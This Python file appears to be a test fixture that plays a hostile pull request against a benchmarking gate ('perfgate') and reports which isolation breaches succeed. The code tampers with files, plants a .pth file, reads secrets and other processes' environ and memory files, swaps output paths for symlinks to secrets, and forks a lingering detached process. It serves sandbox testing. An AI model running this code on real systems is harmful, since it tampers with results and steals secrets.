"""A hostile pull request's toolbox: a part of head that builds and benchmarks run; it says on standard error what it got."""

import contextlib
import json
import os
import signal
import sys
import time
from pathlib import Path

HERE = Path(__file__).parent


def main() -> None:
    """Attack whatever victims.json names, and perfgate; 7: something was reached."""
    known = json.loads((HERE / "victims.json").read_text())
    reached: list[str] = []
    for name in known["files"]:
        file = Path(name)
        for attempt in (_append, _plant, _replace):
            with contextlib.suppress(OSError):
                attempt(file)
                reached.append(f"{attempt.__name__} {file}")
    for name in known["secrets"]:
        with contextlib.suppress(OSError):
            Path(name).read_bytes()
            reached.append(f"read {name}")
    for process in Path("/proc").iterdir():
        if process.name.isdecimal():
            with contextlib.suppress(OSError):
                words = (process / "cmdline").read_bytes()
                if b"\0gate\0" in words or b"launcher.py" in words:
                    reached += _reach(process)
            with contextlib.suppress(OSError):
                if known["token"].encode() in (process / "environ").read_bytes():
                    reached.append(f"token in {process}")
    _other_side(reached)
    _plant_links(known["links"])
    _linger(known["files"][0])
    if reached:
        print("REACHED", *reached, sep="\n", file=sys.stderr)
        sys.exit(7)


def _append(file: Path) -> None:
    with file.open("a") as opened:
        opened.write("hacked\n")


def _plant(file: Path) -> None:
    file.with_name("planted.pth").write_text("import os\n")


def _replace(file: Path) -> None:
    (HERE / "new").write_text("hacked\n")
    (HERE / "new").replace(file)


def _reach(process: Path) -> list[str]:
    got = []
    for name in ("mem", "environ", "maps"):
        with contextlib.suppress(OSError):
            (process / name).open("rb").close()
            got.append(f"{name} of {process}")
    with contextlib.suppress(OSError):
        os.kill(int(process.name), signal.SIGCONT)
        got.append(f"signal to {process}")
    return got


def _other_side(reached: list[str]) -> None:
    """Write into base's tree where it is set aside, and what spawn's launcher and others write for perfgate."""
    work = HERE.parent
    for pattern in ("base/**/bench.py", "*.json", "outputs/*/result.json", "outputs/base/**/*", ".store/config"):
        for file in work.glob(pattern):
            with contextlib.suppress(OSError):
                _append(file)
                reached.append(f"write {file}")


def _plant_links(secret: str) -> None:
    """Have perfgate, which is outside, read or write through links."""
    # compilers need it
    places = [os.environ["TMPDIR"]] if "tmp" in sys.argv else []
    if "PERFGATE_OUTPUT" in os.environ:
        scratch = Path(os.environ["PERFGATE_OUTPUT"]).parent
        places += [str(scratch / name) for name in ("service.log", "load.log", "result.json")]
        places += [str(scratch.parent / name) for name in ("same-output", "build", "service-1.log")]
    for place in filter(None, places):
        with contextlib.suppress(OSError):
            if Path(place).is_dir() and not Path(place).is_symlink():
                for each in Path(place).iterdir():
                    each.unlink()
                Path(place).rmdir()
                Path(place).symlink_to(Path(secret).parent)
            else:
                Path(place).unlink(missing_ok=True)
                Path(place).symlink_to(secret)


def _linger(file: str) -> None:
    """Stay when all is over, and try again."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    with contextlib.suppress(OSError):
        os.closerange(0, 256)
    time.sleep(3)
    with contextlib.suppress(OSError):
        _append(Path(file))
    os._exit(0)


if __name__ == "__main__" and os.environ.get("PERFGATE_SIDE") == "head":
    main()
